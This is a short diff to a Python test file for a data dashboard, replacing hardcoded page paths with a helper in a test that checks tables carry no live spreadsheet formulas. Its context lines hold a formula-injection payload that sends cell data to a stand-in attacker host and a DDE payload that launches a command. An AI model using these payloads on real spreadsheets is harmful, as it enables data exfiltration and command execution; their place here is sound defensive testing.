@@ -19,6 +19,7 @@ from pipelines.cli import main
 from pipelines.db import connect_readonly
 from pipelines.errors import DataError
 from tests.helpers import EMPLOYEE_COLS, JOB_COLS, write_config, write_csv
+from dashboard.pages import page_path
 
 FORMULA = '=WEBSERVICE("https://attacker.example/?"&A1)'
 DDE = "+cmd' /C calc'!A0"
@@ -121,7 +122,7 @@ def test_dashboard_tables_carry_no_live_formula(hostile_db, monkeypatch):
     monkeypatch.setenv("EQUITY_DB", str(hostile_db))
     cells = []
     # (the workforce and retention pages fail on a folder this small, for reasons unrelated to the labels)
-    for page in ("app_pages/overview.py", "app_pages/data_quality.py", "app_pages/pay.py"):
+    for page in (page_path("overview"), page_path("data_quality"), page_path("pay")):
         at = AppTest.from_file(ENTRY, default_timeout=120).run()
         at.switch_page(page).run()
         assert not at.exception, at.exception
